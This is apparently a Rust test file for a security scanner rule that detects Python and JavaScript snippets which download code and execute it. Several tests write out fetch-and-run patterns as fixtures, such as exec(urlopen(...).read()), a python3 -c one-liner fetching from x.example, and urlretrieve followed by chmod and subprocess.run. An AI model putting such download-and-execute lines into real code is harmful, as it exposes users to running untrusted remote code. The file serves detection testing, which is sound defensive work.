//! Edges of `fetched` that a whole-file mutation sweep found unpinned
//! (#27, session 25): the 64 KiB of a block read, the 16 names, paths and
//! files remembered, shell blocks left to `remote`, a script written from
//! literals, a download run as the program itself, and the shortest path.

use crate::scan::testutil::{assert_absent, assert_hit};
use crate::scan::{Category::RemoteExecution, Severity::Critical};

const ID: &str = "code.fetched-exec";

/// A Python block of `lines`, then `last` (1-based line of `last`: the
/// fence is line 1).
fn python(lines: &[String], last: &str) -> (String, usize) {
    (
        format!("```python\n{}{last}\n```\n", lines.iter().map(|l| format!("{l}\n")).collect::<String>()),
        lines.len() + 2,
    )
}

#[test]
fn a_block_is_read_up_to_64_kib() {
    // Filler of whole lines, then `exec(urlopen(` ending at the block's
    // 65,536th byte: the call and the download are both in what is read.
    // One byte more of filler cuts `urlopen(` to `urlopen`.
    let call = "exec(urlopen(u).read())";
    let head = "exec(urlopen(".len();
    let body = |filler: usize| {
        let mut lines: Vec<String> = vec![format!("#{}", "p".repeat(98)); filler / 100];
        lines.push(format!("#{}", "p".repeat(filler % 100 - 2)));
        python(&lines, call)
    };
    let (at, line) = body(64 * 1024 - head);
    assert_hit(&at, ID, RemoteExecution, Critical, line);
    let (past, _) = body(64 * 1024 - head + 1);
    assert_absent(&past, ID);
}

#[test]
fn a_shell_block_is_left_to_the_shell_rules() {
    let code = "python3 -c \"exec(urlopen('https://x.example/p.py').read())\"";
    assert_absent(&format!("```bash\n{code}\n```\n"), ID);
    // The same call in a Python block is this analysis'.
    assert_hit(
        "```python\nexec(urlopen('https://x.example/p.py').read())\n```\n",
        ID,
        RemoteExecution,
        Critical,
        2,
    );
}

#[test]
fn a_script_written_from_literals_and_run_is_not_fetched() {
    let local = "```python\nopen(\"/tmp/inst.sh\", \"w\").write(\"echo hi\")\nsubprocess.run([\"bash\", \"/tmp/inst.sh\"])\n```\n";
    assert_absent(local, ID);
    let js =
        "```js\nfs.writeFileSync(\"/tmp/inst.sh\", \"echo hi\");\nexecSync(\"bash /tmp/inst.sh\");\n```\n";
    assert_absent(js, ID);
}

#[test]
fn sixteen_saved_downloads_are_remembered_not_seventeen() {
    let body = |n: usize| {
        let lines: Vec<String> =
            (0..n).map(|k| format!("urllib.request.urlretrieve(u, \"/tmp/d{k}.sh\")")).collect();
        python(&lines, &format!("subprocess.run([\"bash\", \"/tmp/d{}.sh\"])", n - 1))
    };
    let (at, line) = body(16);
    assert_hit(&at, ID, RemoteExecution, Critical, line);
    assert_absent(&body(17).0, ID);
}

#[test]
fn sixteen_path_names_are_remembered_not_seventeen() {
    let body = |n: usize| {
        let mut lines: Vec<String> = (0..n).map(|k| format!("p{k} = \"/tmp/d{k}.sh\"")).collect();
        let p = format!("p{}", n - 1);
        lines.push(format!("open({p}, \"wb\").write(requests.get(u).content)"));
        python(&lines, &format!("subprocess.run([\"bash\", {p}])"))
    };
    let (at, line) = body(16);
    assert_hit(&at, ID, RemoteExecution, Critical, line);
    assert_absent(&body(17).0, ID);
}

#[test]
fn sixteen_fetched_names_are_remembered_not_seventeen() {
    let body = |n: usize| {
        let lines: Vec<String> = (0..n).map(|k| format!("c{k} = urlopen(u{k}).read()")).collect();
        python(&lines, &format!("exec(c{})", n - 1))
    };
    let (at, line) = body(16);
    assert_hit(&at, ID, RemoteExecution, Critical, line);
    assert_absent(&body(17).0, ID);
}

#[test]
fn a_download_run_as_the_program_itself() {
    let list = "```python\nurllib.request.urlretrieve(u, \"/tmp/inst.sh\")\nos.chmod(\"/tmp/inst.sh\", 0o755)\nsubprocess.run([\"/tmp/inst.sh\"])\n```\n";
    assert_hit(list, ID, RemoteExecution, Critical, 4);
    let system = "```python\nurllib.request.urlretrieve(u, \"/tmp/inst.sh\")\nos.system(\"/tmp/inst.sh --quiet\")\n```\n";
    assert_hit(system, ID, RemoteExecution, Critical, 3);
    // Run by its full path when saved by a relative one.
    let full = "```python\nurllib.request.urlretrieve(u, \"inst.sh\")\nsubprocess.run([\"bash\", \"/work/inst.sh\"])\n```\n";
    assert_hit(full, ID, RemoteExecution, Critical, 3);
}

#[test]
fn a_path_has_four_bytes_or_more() {
    let body = |p: &str| {
        format!("```python\nurllib.request.urlretrieve(u, \"{p}\")\nsubprocess.run([\"sh\", \"{p}\"])\n```\n")
    };
    assert_hit(&body("i.sh"), ID, RemoteExecution, Critical, 3);
    // `a/b`, `.`, `..`: too short to tell from a word.
    assert_absent(&body("a/b"), ID);
}
